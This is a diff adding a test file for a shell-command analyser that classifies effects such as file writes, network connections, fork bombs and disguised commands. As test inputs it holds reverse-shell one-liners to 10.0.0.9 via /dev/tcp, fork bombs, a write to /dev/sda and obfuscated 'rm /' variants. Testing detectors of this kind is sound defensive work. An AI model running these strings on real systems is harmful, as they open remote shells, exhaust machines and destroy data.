@@ -1,0 +1,72 @@
+import { describe, expect, it } from 'vitest';
+import { effectsOf } from './shell.ts';
+
+describe('redirections', () => {
+  it.each([
+    ['ls > out', ['file.write /home/ada/code/shop/out truncate']],
+    ['ls >> out', ['file.append /home/ada/code/shop/out append']],
+    ['ls &> out', ['file.write /home/ada/code/shop/out truncate']],
+    ['ls >| out', ['file.write /home/ada/code/shop/out truncate']],
+    ['cat < in', ['file.read /home/ada/code/shop/in']],
+    ['> out', ['file.write /home/ada/code/shop/out truncate']],
+    ['{ ls; ls; } > /etc/x', ['file.write /etc/x truncate']],
+    ['for f in a; do ls; done > "$HOME/x"', ['file.write /home/ada/x truncate']],
+    ['cd /etc && ls > x', ['file.write /etc/x truncate']],
+    ['ls > /dev/sda', ['file.write /dev/sda truncate']],
+  ])('%s', (text, expected) => {
+    expect(effectsOf(text)).toEqual(expected);
+  });
+
+  it.each([['ls > /dev/null 2>&1'], ['ls 2>/dev/null >&2'], ['ls < /dev/null'], ['ls > /dev/stderr'], ['ls 2>&-']])(
+    '%s touches nothing',
+    (text) => {
+      expect(effectsOf(text)).toEqual([]);
+    },
+  );
+
+  it('to the network are connections', () => {
+    const [first] = effectsOf('ls > /dev/tcp/10.0.0.9/443');
+    expect(first).toMatch(/^net\.request .*raw-socket$/);
+  });
+
+  it.each([
+    ['bash -i >& /dev/tcp/10.0.0.9/443 0>&1'],
+    ['sh -i 5<> /dev/tcp/10.0.0.9/443 0<&5 1>&5'],
+    ['exec 5<> /dev/tcp/10.0.0.9/443; sh <&5 >&5'],
+    ['0<&196; exec 196<> /dev/tcp/10.0.0.9/443; bash <&196 >&196 2>&196'],
+  ])('%s hands a shell to another machine', (text) => {
+    expect(effectsOf(text)).toContain('net.request raw-socket reverse-shell');
+  });
+});
+
+describe('what cannot end', () => {
+  it.each([
+    [':(){ :|:& };:'],
+    ['bomb() { bomb | bomb & }; bomb'],
+    ['f() { f & f & }; f'],
+    ['while true; do ls & done'],
+    ['for ((;;)); do ls & done'],
+  ])('%s', (text) => {
+    expect(effectsOf(text)).toContain('process.exhaust');
+  });
+
+  it.each([['f() { f; }; f'], ['while true; do ls; sleep 1; done'], ['while true; do ls & wait; done'], ['f() { ls | cat; }; f | f']])(
+    'but not %s',
+    (text) => {
+      expect(effectsOf(text)).not.toContain('process.exhaust');
+    },
+  );
+});
+
+describe('a command that hides its name', () => {
+  it.each([["r''m /"], ['r"m" /'], ['r\\m /'], ["$'\\x72m' /"], ['$(echo rm) /'], ['rm${IFS}/'], ['{rm,/}'], ['a=r; b=m; $a$b /']])(
+    '%s',
+    (text) => {
+      expect(effectsOf(text)).toEqual(expect.arrayContaining(['file.delete /', 'exec rm obfuscated']));
+    },
+  );
+
+  it.each([["'rm' /"], ['"rm" /'], ['\\rm /'], ['x=rm; $x /'], ['"$(which rm)" /'], ['/bin/rm /']])('but not %s', (text) => {
+    expect(effectsOf(text)).toEqual(['file.delete /']);
+  });
+});
